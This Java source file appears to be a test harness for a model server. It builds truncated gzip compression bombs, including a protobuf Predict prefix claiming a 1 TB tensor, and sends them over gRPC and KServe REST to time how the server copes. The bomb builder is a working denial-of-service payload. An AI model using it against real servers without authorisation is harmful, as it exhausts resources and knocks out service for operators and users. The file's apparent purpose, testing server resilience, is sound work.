package io.ovserve.bench;

import com.google.protobuf.CodedOutputStream;
import io.grpc.CallOptions;
import io.grpc.Codec;
import io.grpc.CompressorRegistry;
import io.grpc.ManagedChannel;
import io.grpc.ManagedChannelBuilder;
import io.grpc.StatusRuntimeException;
import io.grpc.stub.ClientCalls;
import io.ovserve.support.RawBytes;
import io.ovserve.support.Tensors;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.zip.Deflater;
import tensorflow.serving.PredictionServiceGrpc;

/**
 * Sends one compression bomb of about {@code BYTES} on the wire to a server of the resnet model, then one
 * good gzip'd call, and prints {@code VECTOR WIRE_BYTES STATUS MILLIS AFTER_LAST_BYTE_MILLIS NEXT_STATUS},
 * tab-separated (timed as {@link ExpansionVectors} times them)
 * ({@code CompressionVectors GRPC_HOST:PORT HTTP_HOST:PORT VECTOR BYTES}): grpc-gzip (a Predict sent with
 * grpc-encoding gzip), rest-gzip (a KServe REST infer body sent with Content-Encoding gzip). Each inflates
 * about a thousandfold (a stream of zeros, or of spaces after the JSON's start), far beyond any limit: what
 * the server holds is what it lets the stream inflate to. The stream is one deflate block repeated, so a
 * bomb of 100 MB is built in a moment; it is cut off (no final block, no trailer), as the server never
 * reads that far.
 */
public final class CompressionVectors {

    private static final int BLOCK_INPUT = 1 << 20;
    private static final int IMAGE = 3 * 224 * 224;

    private CompressionVectors() {
    }

    public static void main(String[] args) throws Exception {
        String vector = args[2];
        long target = Long.parseLong(args[3]);
        String status;
        String next;
        long start;
        long afterLastByte;
        long answered;
        byte[] bomb;
        switch (vector) {
            case "grpc-gzip" -> {
                LastByteRelay relay = new LastByteRelay(args[0]);
                ManagedChannel channel = ManagedChannelBuilder.forTarget(relay.address()).usePlaintext()
                        .compressorRegistry(PRECOMPRESSED).build();
                try {
                    bomb = gzip(predictPrefix(), (byte) 0, target);
                    start = System.nanoTime();
                    status = grpc(channel, bomb);
                    afterLastByte = relay.millisSinceLastByteSent();
                    answered = System.nanoTime(); // not the good call's time too
                    next = grpc(channel, gzip(goodPredict()));
                } finally {
                    channel.shutdownNow();
                    relay.close();
                }
            }
            case "rest-gzip" -> {
                HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
                bomb = gzip("{\"inputs\": [".getBytes(StandardCharsets.US_ASCII), (byte) ' ', target);
                try (LastByteRelay relay = new LastByteRelay(args[1])) {
                    start = System.nanoTime();
                    status = rest(client, relay.address(), bomb);
                    afterLastByte = relay.millisSinceLastByteSent();
                    answered = System.nanoTime(); // not the good call's time too
                    next = rest(client, relay.address(), gzip(goodInferJson()));
                }
            }
            default -> throw new IllegalArgumentException("unknown vector " + vector);
        }
        long millis = (answered - start) / 1_000_000;
        System.out.println(String.join("\t", vector, Integer.toString(bomb.length), status, Long.toString(millis),
                Long.toString(afterLastByte), next));
    }

    /**
     * A client "gzip" that sends the bytes it is given as they are: the message is gzip already, so the
     * server gets exactly the stream built here, flagged compressed.
     */
    private static final CompressorRegistry PRECOMPRESSED = CompressorRegistry.newEmptyInstance();

    static {
        PRECOMPRESSED.register(new Codec() {
            @Override
            public String getMessageEncoding() {
                return "gzip";
            }

            @Override
            public OutputStream compress(OutputStream os) {
                return os;
            }

            @Override
            public java.io.InputStream decompress(java.io.InputStream is) {
                return is;
            }
        });
    }

    private static String grpc(ManagedChannel channel, byte[] gzipped) {
        try {
            ClientCalls.blockingUnaryCall(channel, RawBytes.method(PredictionServiceGrpc.getPredictMethod()),
                    CallOptions.DEFAULT.withCompression("gzip").withDeadlineAfter(60, TimeUnit.SECONDS), gzipped);
            return "OK";
        } catch (StatusRuntimeException e) {
            return e.getStatus().getCode() + " \"" + e.getStatus().getDescription() + "\"";
        }
    }

    private static String rest(HttpClient client, String hostPort, byte[] gzipped) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://" + hostPort + "/v2/models/resnet/infer"))
                .header("Content-Encoding", "gzip").header("Content-Type", "application/json")
                .timeout(java.time.Duration.ofSeconds(60))
                .POST(HttpRequest.BodyPublishers.ofByteArray(gzipped)).build();
        HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
        String body = response.body();
        return response.statusCode() + (response.statusCode() == 200 ? "" : " " + body);
    }

    /** A good request: one f32 [1,3,224,224] of zeros. */
    private static byte[] goodPredict() {
        return Tensors.request("resnet").putInputs("0", Tensors.floats(new long[] {1, 3, 224, 224}, new float[IMAGE]))
                .build().toByteArray();
    }

    /** The same as KServe JSON. */
    private static byte[] goodInferJson() {
        return ("{\"inputs\": [{\"name\": \"0\", \"shape\": [1, 3, 224, 224], \"datatype\": \"FP32\", \"data\": ["
                + String.join(",", java.util.Collections.nCopies(IMAGE, "0")) + "]}]}").getBytes(StandardCharsets.US_ASCII);
    }

    /** A Predict of resnet's input "0" up to its tensor_content, which claims about 1 TB of float values. */
    private static byte[] predictPrefix() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        CodedOutputStream out = CodedOutputStream.newInstance(bytes);
        long content = 1L << 40;
        byte[] spec = {10, 6, 'r', 'e', 's', 'n', 'e', 't'};
        out.writeByteArray(1, spec);
        // inputs entry: key "0", value: TensorProto {dtype DT_FLOAT, tensor_content: content bytes}
        long tensor = 2 + 1 + CodedOutputStream.computeUInt64SizeNoTag(content) + content;
        long entry = 3 + 1 + CodedOutputStream.computeUInt64SizeNoTag(tensor) + tensor;
        out.writeTag(2, 2);
        out.writeUInt64NoTag(entry);
        out.writeString(1, "0");
        out.writeTag(2, 2);
        out.writeUInt64NoTag(tensor);
        out.writeEnum(1, 1);
        out.writeTag(4, 2);
        out.writeUInt64NoTag(content);
        out.flush();
        return bytes.toByteArray();
    }

    /** {@code prefix}, then {@code fill} bytes without end, as a gzip stream cut off at about {@code wire} bytes. */
    private static byte[] gzip(byte[] prefix, byte fill, long wire) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            byte[] block = new byte[BLOCK_INPUT];
            java.util.Arrays.fill(block, fill);
            ByteArrayOutputStream stream = new ByteArrayOutputStream((int) Math.min(wire + 1024, Integer.MAX_VALUE - 8));
            stream.writeBytes(new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, (byte) 0xff}); // gzip header
            stream.writeBytes(flushed(deflater, concat(prefix, block)));
            byte[] steady = flushed(deflater, block); // refers only to the fill bytes before it: repeatable
            while (stream.size() < wire) {
                stream.writeBytes(steady);
            }
            return stream.toByteArray();
        } finally {
            deflater.end();
        }
    }

    private static byte[] gzip(byte[] whole) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream zip = new java.util.zip.GZIPOutputStream(out)) {
            zip.write(whole);
        }
        return out.toByteArray();
    }

    private static byte[] flushed(Deflater deflater, byte[] input) {
        deflater.setInput(input);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        int n;
        while ((n = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH)) > 0) {
            out.write(buffer, 0, n);
            if (n < buffer.length && deflater.needsInput()) {
                break;
            }
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }
}
